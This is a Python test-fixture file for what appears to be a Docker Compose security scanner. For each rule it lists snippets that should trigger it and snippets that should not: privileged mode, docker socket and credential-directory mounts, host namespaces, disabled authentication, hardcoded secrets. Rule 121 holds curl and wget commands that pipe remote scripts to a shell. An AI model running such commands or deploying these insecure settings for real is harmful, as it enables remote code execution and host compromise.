"""For each rule of compose files: what fires it, and what does not."""

from .small import SECRET

SERVICE = """\
services:
  server:
    image: ghcr.io/example/server:1.2.3
    cap_drop: [ALL]
    security_opt: ["no-new-privileges:true"]
    read_only: true
    mem_limit: 512m
    cpus: 1.0
    pids_limit: 100
"""


def service(*lines: str, without: str = "none of this") -> str:
    kept = [x for x in SERVICE.splitlines() if without not in x]
    return "\n".join([*kept, *(f"    {line}" for line in lines)]) + "\n"


NEIGHBOUR = SERVICE.partition("\n")[2].replace("server:", "b:", 1)
NEIGHBOUR += "    networks: [b]\n"
BIND = "volumes: [{type: bind, source: "
SOCKET = "/var/run/docker.sock"
COMPOSE: dict[tuple[str, str], tuple[list[str], list[str]]] = {
    ("101", "critical"): (
        [
            service("privileged: true"),
            service("privileged: yes"),
            service("build: {context: ., privileged: true}"),
        ],
        [service("privileged: false")],
    ),
    ("102", "critical"): (
        [
            service(f'volumes: ["{SOCKET}:{SOCKET}:ro"]'),
            service(BIND + SOCKET + "}]"),
            service("environment: {DOCKER_HOST: 'tcp://10.0.0.1:2375'}"),
        ],
        [service('volumes: ["sock:/run/x"]')],
    ),
    ("103", "high"): (
        [
            service('volumes: ["~/.aws:/keys:ro"]'),
            service('volumes: ["/etc:/etc"]'),
            service('volumes: ["~/.ssh:/keys"]'),
            *(
                service(f"volumes: ['{place}:/x']")
                for place in (
                    *("/srv/../etc", "//etc", "../../../../etc"),
                    *("~/../../etc", "/etc/ssl/certs/../../shadow"),
                )
            ),
            service('volumes: ["${HOME}:/home"]'),
            service("volumes: [{type: bind, source: /proc, target: /p}]"),
            service("volumes: ['named:/data']")
            + "volumes: {named: {driver_opts: {o: bind, device: /root} } }\n",
            service('volumes: ["/etc:/host:ro"]'),
        ],
        [
            service('volumes: ["./data:/data", "/srv/work:/workspace"]'),
            service('volumes: ["../lib:/lib", "./a/../data:/data"]'),
            service('volumes: ["/etc/localtime:/etc/localtime:ro"]'),
            service("volumes: ['named:/data']")
            + "volumes: {named: {driver_opts: {o: bind, device: /srv/a} } }\n",
        ],
    ),
    ("103", "critical"): (
        [service('volumes: ["/:/host"]'), service('volumes: ["/:/host:ro"]')],
        [],
    ),
    ("104", "high"): (
        [service(f"{key}: host") for key in ("network_mode", "pid", "ipc")],
        [service("network_mode: bridge")],
    ),
    ("105", "high"): (
        [service("cap_add: [SYS_ADMIN]"), service("cap_add: [CAP_NET_RAW]")],
        [service("cap_add: [NET_BIND_SERVICE]")],
    ),
    ("116", "critical"): (
        [
            service("devices: ['/dev/sda:/dev/xvda:r']"),
            service("devices: [/dev/mem]"),
            service("devices: ['/dev:/dev']"),
            service("device_cgroup_rules: ['a *:* rwm']"),
        ],
        [
            service("devices: ['/dev/dri:/dev/dri', /dev/snd]"),
            service("device_cgroup_rules: ['c 1:3 mr']"),
        ],
    ),
    ("117", "medium"): (
        [
            service("sysctls: {net.ipv4.ip_forward: 1}"),
            service("sysctls: ['kernel.msgmax=65536']"),
        ],
        [
            service("sysctls: {net.ipv4.ip_unprivileged_port_start: 0}"),
            service("sysctls: ['net.ipv4.tcp_syncookies=1']"),
        ],
    ),
    ("118", "medium"): (
        [
            service("network_mode: 'container:other'"),
            service("pid: 'service:other'"),
            service("ipc: 'container:other'"),
            service("volumes_from: ['container:other:ro']"),
        ],
        [service("ipc: private"), service("network_mode: none")],
    ),
    ("119", "medium"): (
        [
            service("oom_kill_disable: true"),
            service("oom_score_adj: -1000"),
            service("memswap_limit: -1"),
        ],
        [service("oom_kill_disable: false", "oom_score_adj: 500")],
    ),
    ("121", "high"): (
        [
            service("command: sh -c 'curl -fsSL https://a.b/x.sh | sh'"),
            service(
                "healthcheck: {test: [CMD-SHELL, 'curl https://a.b | sh']}"
            ),
            service("entrypoint: [sh, -c, 'wget -qO- https://a.b/x | bash']"),
        ],
        [service("command: sh -c 'curl -fsSL https://a.b/x | jq .'")],
    ),
    ("122", "medium"): (
        [
            service() + "include: [https://github.com/a/b.git#main:c.yaml]\n",
            service() + "include: [{path: 'oci://ghcr.io/a/b:latest'}]\n",
            service("build: https://github.com/a/b.git"),
        ],
        [
            service() + "include: [https://github.com/a/b.git#v1.2:c.yaml]\n",
            service() + "include: [../other/compose.yaml]\n",
            service("build: {context: ..}"),
        ],
    ),
    ("104", "medium"): ([service("userns_mode: host")], []),
    ("125", "medium"): (
        [
            service("volumes: ['./nginx.conf:/etc/nginx/nginx.conf']"),
            service("volumes: ['./x.yaml:/app/x.yaml:rw']"),
            service(BIND + "./x, target: /etc/x}]"),
        ],
        [
            service("volumes: ['./nginx.conf:/etc/nginx/nginx.conf:ro']"),
            service("volumes: ['./data:/data', 'etc:/etc/x']"),
        ],
    ),
    ("126", "medium"): (
        [
            service(f"environment: {given}", "networks: [a, b]")
            + NEIGHBOUR
            + "networks: {a: {internal: true}, b: {} }\n"
            for given in ("{MCP_HOST: 127.0.0.1}", "[MCP_HOST=127.0.0.1]")
        ],
        [
            service("environment: {MCP_HOST: 127.0.0.1}", *lines)
            + f"{other}networks: {{a: {{internal: true}}, b: {known} }}\n"
            for other, known, *lines in (
                (NEIGHBOUR, "{external: true}", "networks: [a, b]"),
                (
                    NEIGHBOUR,
                    "{}",
                    "networks: [a, b]",
                    "ports: ['127.0.0.1:1:1']",
                ),
                ("", "{}", "networks: [a, b]"),
            )
        ]
        + [service("networks: [b]") + NEIGHBOUR + "networks: {b: {} }\n"],
    ),
    ("124", "low"): (
        [
            service('tmpfs: ["/tmp:rw,exec,size=16m"]'),
            service("tmpfs: /tmp:suid"),
        ],
        [service('tmpfs: ["/tmp:rw,noexec,nosuid"]'), service("tmpfs: /exec")],
    ),
    ("123", "medium"): (
        [
            "services: {a: {mem_limit: !reset null}}\n",
            "services: {a: {cap_drop: !override [KILL]}}\n",
        ],
        ["services: {a: {cap_drop: !override [ALL], ports: !reset []}}\n"],
    ),
    ("120", "medium"): (
        [
            service("environment: {GF_AUTH_ANONYMOUS_ENABLED: 'true'}"),
            service("environment: [GF_USERS_ALLOW_SIGN_UP=true]"),
            service("command: [--web.enable-admin-api]"),
            service("command: valkey-server --unixsocketperm 777"),
        ],
        [
            service("command: valkey-server --unixsocketperm 770"),
            service("environment: {GF_AUTH_ANONYMOUS_ENABLED: 'false'}"),
            service("environment: [GF_AUTH_ANONYMOUS_ORG_ROLE=Admin]"),
            service("command: [--web.listen-address=:9090]"),
            service("command: valkey-server --protected-mode yes"),
        ],
    ),
    ("120", "high"): (
        [
            service("command: valkey-server --protected-mode no"),
            service(
                "environment:",
                "  GF_AUTH_ANONYMOUS_ENABLED: true",
                "  GF_AUTH_ANONYMOUS_ORG_ROLE: Admin",
            ),
            *(
                service(f"environment: ['{each}']")
                for each in (
                    "POSTGRES_HOST_AUTH_METHOD=trust",
                    "MYSQL_ALLOW_EMPTY_PASSWORD=yes",
                    "xpack.security.enabled=false",
                    "DANGEROUSLY_OMIT_AUTH=true",
                    "DOCKER_TLS_CERTDIR=",
                )
            ),
            service("command: [--api.insecure=true]"),
            service("command: mongod --noauth"),
        ],
        [
            service("environment: [POSTGRES_HOST_AUTH_METHOD=scram-sha-256]"),
            service("environment: [DOCKER_TLS_CERTDIR=/certs]"),
            service("command: [--auth]"),
        ],
    ),
    ("120", "critical"): (
        [service("command: jupyter lab --ServerApp.token=''")],
        [service("command: jupyter lab --ServerApp.port=8888")],
    ),
    ("106", "medium"): ([service(without="cap_drop")], [service()]),
    ("107", "medium"): (
        [service(without="security_opt")],
        [service("security_opt: [no-new-privileges]", without="security_opt")],
    ),
    ("108", "medium"): (
        [
            service(without="read_only"),
            service("read_only: false", without="read_only"),
        ],
        [service()],
    ),
    ("109", "high"): (
        [
            service("user: root"),
            service("user: 0"),
            service('user: "0:0"'),
            service('user: "${WHO:-root}"'),
            service("group_add: [docker]"),
            service("group_add: ['0']"),
        ],
        [
            service('user: "10001:10001"'),
            service('user: "${WHO}"'),
            service("group_add: ['1000', audio]"),
        ],
    ),
    ("109", "medium"): (
        [
            service().replace("ghcr.io/example/server", "nginx"),
            service().replace("ghcr.io/example/server", "docker.io/node"),
        ],
        [
            service("user: '101'").replace("ghcr.io/example/server", "nginx"),
            service().replace("ghcr.io/example/server", "bitnami/nginx"),
        ],
    ),
    ("110", "medium"): (
        [
            service().replace(":1.2.3", ":latest"),
            service().replace(":1.2.3", ""),
            service().replace(":1.2.3", ":${TAG:-latest}"),
        ],
        [
            service().replace(":1.2.3", ":${TAG}"),
            service("build: .").replace(":1.2.3", ""),
            service("build: .").replace(":1.2.3", ":local"),
        ],
    ),
    ("111", "high"): (
        [
            service().replace("privileges:true", f'privileges:true", "{x}')
            for x in ("seccomp:unconfined", "apparmor=unconfined")
        ],
        [service()],
    ),
    ("112", "medium"): (
        [
            service('ports: ["9090:9090"]'),
            service('ports: ["0.0.0.0:6379:6379/tcp"]'),
            service('ports: ["9090"]'),
            service("ports: [{target: 5432, published: 5432}]"),
            service('ports: ["3000:3000"]').replace("server:1", "grafana:1"),
            service('ports: ["80:8080"]', "environment: {MCP_TRANSPORT: sse}"),
        ],
        [
            service(
                'ports: ["443:8443"]',
                "environment: [MCP_TRANSPORT=http, MCP_TLS_CERTFILE=/a]",
            ),
            service(
                'ports: ["127.0.0.1:8080:8080"]',
                "environment: {MCP_TRANSPORT: http}",
            ),
            service('ports: ["3000:3000"]'),
            service('ports: ["127.0.0.1:9090:9090", "8080:8080"]'),
            service("ports: [{target: 5432, host_ip: 127.0.0.1}]"),
        ],
    ),
    ("113", "high"): (
        [
            service("environment: {DB_PASSWORD: '" + SECRET + "'}"),
            service(f"environment: ['API_TOKEN={SECRET}']"),
            service("environment: {API_TOKEN: '${T:-" + SECRET + "}'}"),
            service("build: {args: {NPM_TOKEN: '" + SECRET + "'} }"),
        ],
        [
            service("environment: {API_TOKEN: '${API_TOKEN}'}"),
            service("environment: [API_TOKEN]"),
            service("environment: {TOKEN_FILE: /run/secrets/x}"),
        ],
    ),
    ("114", "medium"): (
        [
            service(without="mem_limit"),
            service(without="pids_limit"),
            service("pids_limit: -1", without="pids_limit"),
        ],
        [
            service(
                "deploy: {resources: {limits: {memory: 1g, cpus: '1', "
                "pids: 5} } }",
                without="limit",
            )
        ],
    ),
    ("115", "low"): (
        [
            service("healthcheck: {disable: true}"),
            service('healthcheck: {test: ["NONE"]}'),
            service("logging: {driver: none}"),
        ],
        [
            service("healthcheck: {test: [CMD, true]}"),
            service("logging: {driver: journald}"),
        ],
    ),
}
